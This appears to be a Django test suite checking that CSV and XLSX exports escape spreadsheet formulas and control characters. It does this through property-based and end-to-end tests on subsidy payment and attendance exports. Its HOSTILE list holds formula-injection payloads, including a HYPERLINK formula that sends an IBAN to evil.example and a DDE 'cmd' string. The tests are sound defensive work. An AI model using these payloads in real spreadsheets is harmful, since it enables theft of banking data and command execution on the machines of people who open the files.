"""Every export neutralises formulas and control characters (issue 8, findings 3 and 4)."""

import csv
import io

import pytest
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from stemnet.exports import FORMULA_PREFIXES, safe_cell, write_csv, write_xlsx
from stemnet.validation import has_control_characters

HOSTILE = [
    '=HYPERLINK("http://evil.example/?iban="&C2,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "Natuurlabo\x0bMerelbeke",
    "nul\x00byte",
    "\x1f=1+1",  # found by hypothesis: stripping after the prefix check left "=1+1"
]

# Text cells: formula prefixes, control characters and ordinary text mixed.
cells = st.one_of(
    st.text(max_size=40),
    st.builds(lambda p, t: p + t, st.sampled_from([*FORMULA_PREFIXES, ""]), st.text(max_size=20)),
    st.integers(),
    st.none(),
)


def _neutral(text: str) -> bool:
    return not text.startswith(FORMULA_PREFIXES) and not has_control_characters(
        text.replace("\t", "").replace("\n", "").replace("\r", "")
    )


@pytest.mark.parametrize("value", HOSTILE)
def test_safe_cell_neutralises_each_hostile_value(value):
    cleaned = safe_cell(value)
    assert _neutral(cleaned)
    assert "\x0b" not in cleaned and "\x00" not in cleaned
    if value.lstrip("\x00\x1f")[0] in "=+-@\t\r":
        assert cleaned.startswith("'")


def test_safe_cell_leaves_numbers_and_plain_text_alone():
    assert safe_cell(42) == 42 and safe_cell(None) is None
    assert safe_cell("Robotica 2026") == "Robotica 2026"


@settings(max_examples=200, deadline=None)
@given(st.lists(st.lists(cells, min_size=1, max_size=4), max_size=5))
def test_csv_cells_are_never_formulas(rows):
    content = write_csv(rows, ["a", "b", "c", "d"])
    written = list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))[1:]
    assert len(written) == len(rows)
    for source, row in zip(rows, written, strict=True):
        for value, cell in zip(source, row, strict=True):
            if isinstance(value, str):  # numbers are numbers: "-1" is no formula
                assert _neutral(cell), cell


@settings(max_examples=60, deadline=None)
@given(st.lists(st.lists(cells, min_size=1, max_size=4), max_size=5))
def test_xlsx_cells_are_never_formulas_and_the_file_always_opens(rows):
    content = write_xlsx(rows, ["a", "b", "c", "d"], "blad")
    sheet = load_workbook(io.BytesIO(content)).active
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f"
            if isinstance(cell.value, str):
                assert _neutral(cell.value), cell.value


@pytest.mark.django_db
def test_payment_export_with_a_hostile_academy_name_is_neutralised(
    client, municipalities, django_capture_on_commit_callbacks
):
    """An academy renamed to a formula next to the IBAN column, and one with a vertical
    tab (the 500 of finding 4): both files are served, no cell is a formula."""
    from academies.models import Academy
    from subsidies import services
    from subsidies.models import PeriodStatus
    from tests.factories.subsidies import closed_period, network

    first, second = network(2)
    Academy.objects.filter(pk=first.pk).update(name=HOSTILE[0], iban="BE68539007547034")
    Academy.objects.filter(pk=second.pk).update(name=HOSTILE[6])
    period, staff = closed_period(budget_cents=100_000)
    with django_capture_on_commit_callbacks(execute=True):
        services.start_run(actor=staff, period=period)
    client.force_login(staff)
    code = period.code
    client.post(
        reverse("subsidies_staff:transition", args=[code, PeriodStatus.APPROVED]),
        {"confirm": "1"},
    )
    period.refresh_from_db()
    for award_id in period.approved_run.awards.values_list("pk", flat=True):
        services.render_letter(award_id)  # the payment export waits for every letter
    xlsx = client.get(reverse("subsidies_staff:export_xlsx", args=[code]))
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    names = [row[1].value for row in sheet.iter_rows(min_row=2)]
    assert sorted(names) == sorted(["'" + HOSTILE[0], "NatuurlaboMerelbeke"])
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    text = client.get(reverse("subsidies_staff:export_csv", args=[code])).content.decode()
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text and "\x0b" not in text


@pytest.mark.django_db
def test_attendance_export_neutralises_imported_formulas(client, municipalities):
    from academies.imports import import_attendance
    from tests.factories import make_member
    from tests.factories.activities import recognised_academy, register_rows

    academy = recognised_academy()
    rows = [
        {**r, "activity_title": HOSTILE[0], "series_code": "@SUM(A1)", "participant_ref": f"+K{i}"}
        for i, r in enumerate(register_rows(1, 3))
    ]
    import_attendance(actor=None, academy=academy, rows=rows)
    client.force_login(make_member(academy))
    for fmt in ("csv", "xlsx"):
        response = client.get(reverse(f"academies:export_{fmt}", args=[academy.pk]))
        assert response.status_code == 200
        if fmt == "csv":
            cells_out = [
                c for row in csv.reader(io.StringIO(response.content.decode())) for c in row
            ]
        else:
            sheet = load_workbook(io.BytesIO(response.content)).active
            assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
            cells_out = [str(c) for row in sheet.iter_rows(values_only=True) for c in row if c]
        assert "'" + HOSTILE[0] in cells_out and "'@SUM(A1)" in cells_out and "'+K0" in cells_out
        assert all(_neutral(c) for c in cells_out)


def test_import_export_escapes_formulae_too(settings):
    from django.conf import settings as django_settings

    assert django_settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT is True
